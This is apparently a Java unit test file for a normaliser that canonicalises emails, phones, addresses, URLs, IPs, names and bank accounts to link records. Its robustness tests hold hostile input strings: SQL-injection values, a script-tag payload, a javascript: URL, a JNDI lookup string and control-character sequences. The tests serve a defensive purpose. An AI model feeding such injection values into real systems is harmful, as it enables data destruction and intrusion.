package org.hirewatch.links;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import org.hirewatch.domain.Identifier;
import org.hirewatch.domain.IdentifierKind;
import org.hirewatch.domain.IdentifierNormalizer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class NormalizersTest {
    private final Normalizers n = new Normalizers();

    private String norm(IdentifierKind kind, String value) {
        return n.normalize(kind, value);
    }

    @Test
    void theDomainUsesThisNormaliser() {
        assertThat(IdentifierNormalizer.current()).isInstanceOf(Normalizers.class);
        assertThat(Identifier.of(IdentifierKind.EMAIL, "email", "D.Ana+jobs@GoogleMail.com").normalized())
                .isEqualTo("dana@gmail.com");
    }

    @Nested
    class Emails {
        @Test
        void caseNeverMatters() {
            assertThat(norm(IdentifierKind.EMAIL, " Dana.Example@Example.COM ")).isEqualTo("dana.example@example.com");
        }

        @Test
        void gmailIgnoresDotsAndTagsAndGooglemailIsGmail() {
            assertThat(norm(IdentifierKind.EMAIL, "d.a.n.a+applications@googlemail.com")).isEqualTo("dana@gmail.com");
            assertThat(norm(IdentifierKind.EMAIL, "dana@gmail.com.")).isEqualTo("dana@gmail.com");
        }

        @Test
        void otherProvidersKeepDotsButDropPlusTags() {
            assertThat(norm(IdentifierKind.EMAIL, "dana.example+x@example.org")).isEqualTo("dana.example@example.org");
            assertThat(norm(IdentifierKind.EMAIL, "dana.example+x@outlook.com")).isEqualTo("dana.example@outlook.com");
        }

        @Test
        void yahooTagsUseAHyphen() {
            assertThat(norm(IdentifierKind.EMAIL, "dana-shop@yahoo.com")).isEqualTo("dana@yahoo.com");
        }

        @Test
        void mailtoAndAngleBracketsAreDropped() {
            assertThat(norm(IdentifierKind.EMAIL, "mailto:Dana@Example.org")).isEqualTo("dana@example.org");
            assertThat(norm(IdentifierKind.EMAIL, "<dana@example.org>")).isEqualTo("dana@example.org");
        }

        @Test
        void internationalDomainsCompareInPunycode() {
            assertThat(norm(IdentifierKind.EMAIL, "dana@bücher.example")).isEqualTo("dana@xn--bcher-kva.example");
        }

        @Test
        void aLookAlikeLetterIsADifferentAddress() {
            // Cyrillic "а" in place of Latin "a": a different mailbox, and it must not crash or be merged.
            assertThat(norm(IdentifierKind.EMAIL, "d\u0430na@example.org")).isNotEqualTo("dana@example.org");
        }

        @Test
        void fullWidthAndInvisibleCharactersAreCleaned() {
            assertThat(norm(IdentifierKind.EMAIL, "\uFF24ana\u200B@example.org")).isEqualTo("dana@example.org");
        }

        @ParameterizedTest
        @ValueSource(strings = {"", "@", "dana@", "@example.org", "not an email", "+@gmail.com", "...@gmail.com"})
        void malformedValuesAreKeptNotRejected(String value) {
            assertThatCode(() -> norm(IdentifierKind.EMAIL, value)).doesNotThrowAnyException();
        }
    }

    @Nested
    class Phones {
        @AfterEach
        void resetRegion() {
            n.useDefaultRegion("US");
        }

        @Test
        void spellingsOfOneNumberMeetInE164() {
            assertThat(norm(IdentifierKind.PHONE, "+1 (202) 555-0143")).isEqualTo("+12025550143");
            assertThat(norm(IdentifierKind.PHONE, "202.555.0143")).isEqualTo("+12025550143");
            assertThat(norm(IdentifierKind.PHONE, "011 1 202 555 0143")).isEqualTo("+12025550143");
        }

        @Test
        void numbersWithoutCountryCodeUseTheDefaultRegion() {
            n.useDefaultRegion("GB");
            assertThat(norm(IdentifierKind.PHONE, "020 7946 0018")).isEqualTo("+442079460018");
            assertThat(n.version()).contains("region=GB");
        }

        @Test
        void anUnknownRegionFallsBackToTheDefault() {
            n.useDefaultRegion("ZZ'; DROP TABLE case;--");
            assertThat(n.version()).contains("region=US");
        }

        @Test
        void unreadableNumbersKeepTheirDigitsAndAreWeak() {
            String v = norm(IdentifierKind.PHONE, "555-01");
            assertThat(v).isEqualTo("?55501");
            assertThat(Normalizers.weakPhone(v)).isTrue();
            assertThat(Normalizers.weakPhone(norm(IdentifierKind.PHONE, "+1 202 555 0143"))).isFalse();
        }

        @Test
        void hugeAndLetterOnlyInputIsBounded() {
            assertThat(norm(IdentifierKind.PHONE, "9".repeat(100_000))).hasSizeLessThanOrEqualTo(21);
            assertThat(norm(IdentifierKind.PHONE, "call me")).isEqualTo("?call me");
        }
    }

    @Nested
    class Addresses {
        @Test
        void abbreviationsPunctuationAndCaseAreIgnored() {
            String a = norm(IdentifierKind.ADDRESS, "12 Example Street, Apartment 4B\nSpringfield");
            assertThat(norm(IdentifierKind.ADDRESS, "12 example st. apt #4b, springfield")).isEqualTo(a);
            assertThat(norm(IdentifierKind.ADDRESS, "12 EXAMPLE ST UNIT 4B SPRINGFIELD")).isEqualTo(a);
            assertThat(a).isEqualTo("12 example st unit 4b springfield");
        }

        @Test
        void unitNumbersAreKept() {
            assertThat(norm(IdentifierKind.ADDRESS, "12 Example Ave Apt 4"))
                    .isNotEqualTo(norm(IdentifierKind.ADDRESS, "12 Example Ave Apt 5"));
        }

        @Test
        void accentsAndPoBoxes() {
            assertThat(norm(IdentifierKind.ADDRESS, "P.O. Box 7, Münster")).isEqualTo(norm(IdentifierKind.ADDRESS, "PO BOX 7 Munster"));
        }
    }

    @Nested
    class UrlsAndHandles {
        @Test
        void schemeWwwSlashAndCaseAreIgnored() {
            assertThat(norm(IdentifierKind.URL, "HTTPS://www.Example.org/Portfolio/"))
                    .isEqualTo(norm(IdentifierKind.URL, "example.org/portfolio"));
        }

        @Test
        void githubAndLinkedinProfilesBecomeHandles() {
            assertThat(norm(IdentifierKind.URL, "https://github.com/Dana-Example/")).isEqualTo("github:dana-example");
            assertThat(norm(IdentifierKind.URL, "github.com/dana-example/some-repo")).isEqualTo("github:dana-example");
            assertThat(norm(IdentifierKind.URL, "https://uk.linkedin.com/in/dana-example-123/?trk=x"))
                    .isEqualTo("linkedin:dana-example-123");
            assertThat(norm(IdentifierKind.HANDLE, "github.com/Dana-Example")).isEqualTo("github:dana-example");
        }

        @Test
        void handlesLoseTheirAtSign() {
            assertThat(norm(IdentifierKind.HANDLE, "@Dana_Example")).isEqualTo("dana_example");
        }

        @Test
        void javascriptUrlsStayInertText() {
            assertThat(norm(IdentifierKind.URL, "javascript:alert(1)")).isEqualTo("javascript:alert(1)");
        }
    }

    @Nested
    class Ips {
        @Test
        void ipv4IsCanonicalWithoutPortOrLeadingZeros() {
            assertThat(norm(IdentifierKind.IP, " 203.0.113.007 ")).isEqualTo("203.0.113.7");
            assertThat(norm(IdentifierKind.IP, "203.0.113.7:8443")).isEqualTo("203.0.113.7");
        }

        @Test
        void ipv6FollowsRfc5952() {
            assertThat(norm(IdentifierKind.IP, "2001:0DB8:0000:0000:0000:0000:0000:0001")).isEqualTo("2001:db8::1");
            assertThat(norm(IdentifierKind.IP, "[2001:db8::1]:443")).isEqualTo("2001:db8::1");
            assertThat(norm(IdentifierKind.IP, "2001:db8:0:0:1:0:0:1")).isEqualTo("2001:db8::1:0:0:1");
            assertThat(norm(IdentifierKind.IP, "fe80::1%eth0")).isEqualTo("fe80::1");
            assertThat(norm(IdentifierKind.IP, "2001:db8:0:1:1:1:1:1")).isEqualTo("2001:db8:0:1:1:1:1:1");
        }

        @Test
        void mappedIpv4BecomesIpv4() {
            assertThat(norm(IdentifierKind.IP, "::ffff:203.0.113.9")).isEqualTo("203.0.113.9");
        }

        @Test
        void networksAreTheWeakerKey() {
            assertThat(n.nearKey(IdentifierKind.IP, "203.0.113.9")).isEqualTo("203.0.113.0/24");
            assertThat(n.nearKey(IdentifierKind.IP, "2001:db8:1:2:3:4:5:6")).isEqualTo("2001:db8:1:2::/64");
            assertThat(n.nearKey(IdentifierKind.IP, "not an ip")).isNull();
        }

        @ParameterizedTest
        @ValueSource(strings = {"256.1.1.1", "1.2.3", "1.2.3.4.5", "::1::2", "2001:db8::g", "1:2:3:4:5:6:7:8:9",
                "localhost", "example.org", "", ":::", "[::1", "12345::"})
        void nonAddressesAreNeverResolvedOrMisread(String value) {
            String v = norm(IdentifierKind.IP, value);
            assertThat(IpNormalizer.isAddress(v)).as(value).isFalse();
        }
    }

    @Nested
    class Names {
        @Test
        void caseAccentsAndPunctuation() {
            assertThat(norm(IdentifierKind.NAME, "  DANA   Exámple, ")).isEqualTo("dana example");
        }

        @Test
        void nearKeyIgnoresOrder() {
            assertThat(n.nearKey(IdentifierKind.NAME, "example dana")).isEqualTo(n.nearKey(IdentifierKind.NAME, "dana example"));
        }
    }

    @Test
    void accountsIgnoreGroupingSpaces() {
        assertThat(norm(IdentifierKind.BANK_ACCOUNT, "gb82 west 1234-5698 7654 32"))
                .isEqualTo(norm(IdentifierKind.BANK_ACCOUNT, "GB82WEST12345698765432"));
    }

    @Test
    void fingerprintsNearKeyIsTheirTopBits() {
        String fp = norm(IdentifierKind.TEXT_FINGERPRINT, "Senior engineer with ten years of distributed systems");
        assertThat(n.nearKey(IdentifierKind.TEXT_FINGERPRINT, fp)).isEqualTo(fp.substring(0, 4));
    }

    @ParameterizedTest
    @EnumSource(IdentifierKind.class)
    void hostileValuesNeverThrowAndStayBounded(IdentifierKind kind) {
        String[] hostile = {"", " ", "\u0000\u0001\u001b[31m", "'; DROP TABLE evidence_identifier; --",
                "<script>alert(1)</script>", "a".repeat(1_000_000), "\u202Egnp.exe", "%00%0d%0a", "\uD83D\uDE00",
                "\uFFFF\uFFFE", "\uD800", "${jndi:ldap://example.org/a}"};
        for (String h : hostile) {
            String v = norm(kind, h);
            assertThat(v).as(kind + " " + h.length()).isNotNull().hasSizeLessThanOrEqualTo(1_000);
            assertThat(v.chars().noneMatch(c -> c < 0x20 && c != '\n')).isTrue();
            assertThatCode(() -> n.nearKey(kind, v)).doesNotThrowAnyException();
        }
    }
}
